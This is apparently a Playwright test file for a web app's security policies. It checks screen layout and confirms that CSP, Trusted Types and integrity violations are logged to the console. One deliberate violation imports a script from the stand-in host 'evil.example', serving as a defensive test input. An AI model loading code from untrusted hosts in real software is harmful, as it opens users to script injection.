import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures/test';
import { inLooks, LOOKS, visitAll } from './visit-screens';

/** Browsers refuse code without a known hash silently: this logs it. */
const tellUnhashedCode = (page: Page) =>
  page.addInitScript(() => {
    const observer = new ReportingObserver(
      (reports) => reports.forEach(({ type, body }) => console.error(type, JSON.stringify(body))),
      { types: ['integrity-violation'], buffered: true },
    );
    observer.observe();
  });

// The console is watched in every test, here on every screen there is.
test('every screen is quiet and nothing scrolls sideways, at 1440 px in light and at 390 px in dark', async ({
  page,
  desk,
  account,
}) => {
  test.setTimeout(180_000);
  await tellUnhashedCode(page);
  const check = async () => {
    await expect(page).toHaveTitle(/Studio Desk$/);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
  };
  await visitAll({ page, desk, account, check: () => inLooks(page, LOOKS, check) });
});

test('what the policies of the page refuse is seen in the console', async ({ page, desk, allowConsole }) => {
  allowConsole(/Trusted|Content Security Policy|integrity-violation/);
  const errors: string[] = [];
  page.on('console', (message) => void (message.type() === 'error' && errors.push(message.text())));
  await tellUnhashedCode(page);
  await page.goto(`${desk.shellUrl}/login`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(errors).toEqual([]);
  const provoke: Record<string, () => void> = {
    TrustedHTML: () => void (document.createElement('div').innerHTML = '<b>markup</b>'),
    TrustedScript: () => document.body.setAttribute('onclick', 'code()'),
    'script-src': () => void import(String('https://evil.example/x.js')).catch(() => undefined),
    'style-src': () => {
      const style = document.createElement('style');
      style.textContent = '* { color: red }';
      document.head.append(style);
    },
    'integrity-violation': () => void import(String('/remoteEntry.js?other')).catch(() => undefined),
  };
  for (const [words, violate] of Object.entries(provoke)) {
    await page.evaluate(violate).catch(() => undefined);
    await expect.poll(() => errors.join('\n')).toContain(words);
  }
});
